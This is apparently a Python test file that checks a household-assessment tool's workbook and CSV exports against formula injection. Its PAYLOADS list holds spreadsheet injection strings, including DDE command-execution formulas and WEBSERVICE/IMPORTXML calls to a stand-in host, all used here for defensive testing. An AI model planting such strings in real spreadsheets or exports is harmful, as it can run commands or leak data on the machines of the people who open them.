"""Nothing a person or a file wrote becomes a formula in what we write, in whatever field it stands."""

from __future__ import annotations

import csv
import re
import zipfile
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assessment.case import Case, Household
from assessment.layout import sheets
from assessment.report import outgoing, workbook
from tests.intake.reading import editable

PAYLOADS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\u3000=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example","x")', "@x", "%1", "|x", '=IMPORTXML("http://a.example",1)', "-2+3+cmd|' /C calc'!D2",
    '="a"&WEBSERVICE("http://a.example")', "\0=1+1", "0=1", "'=1+1",
)  # fmt: skip
_FORMULA = re.compile(rb"<f[ >/]")


def full_of(text):
    """A case with `text` in every field that holds words."""
    lists = {}
    for sheet in sheets():
        words = {name: text for name, told in sheet.model.model_fields.items() if told.annotation is str}
        model = sheet.example.model_copy(update=sheet.model.model_validate({**dict(sheet.example), **words}).__dict__)
        lists[sheet.section] = (model,)
    return Case(household=Household(place=text), **lists)


def formulas(data):
    """How many formulas each part of a workbook holds, as its text has them."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: len(_FORMULA.findall(archive.read(name))) for name in archive.namelist()}


@pytest.fixture(scope="module")
def ours():
    return formulas(workbook.write(full_of("平常的字")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_our_formulas_and_no_other(payload, ours):
    data = workbook.write(full_of(payload))
    assert formulas(data) == ours
    told = [cell for page in editable(data) for row in page.iter_rows() for cell in row if cell.data_type == "f"]
    assert not [cell for cell in told if "1+1" in cell.value or "example" in cell.value or "cmd" in cell.value]
    with zipfile.ZipFile(BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if "external" in name.lower()]
        assert b"ddeLink" not in b"".join(archive.read(name) for name in archive.namelist())


def test_every_cell_of_words_is_marked_as_words():
    for page in editable(workbook.write(full_of("=1+1"))):
        for row in page.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "f":
                    assert cell.quotePrefix


@given(st.sampled_from(PAYLOADS) | st.text(max_size=20))
def test_a_field_of_a_csv_never_begins_like_a_formula(words):
    out = StringIO()
    csv.writer(out).writerow([outgoing.for_csv(words), "x"])
    field = next(csv.reader(StringIO(out.getvalue(), newline="")))[0]
    assert field.endswith(words)
    assert not field.startswith(outgoing.RISKY)
    assert not field.lstrip().startswith(outgoing.RISKY)


@pytest.mark.parametrize("words", ["借呗", "1=1", "12.50", "2026-03-01", "", "（-1）"])
def test_plain_words_stand_in_a_csv_as_they_are(words):
    assert outgoing.for_csv(words) == words
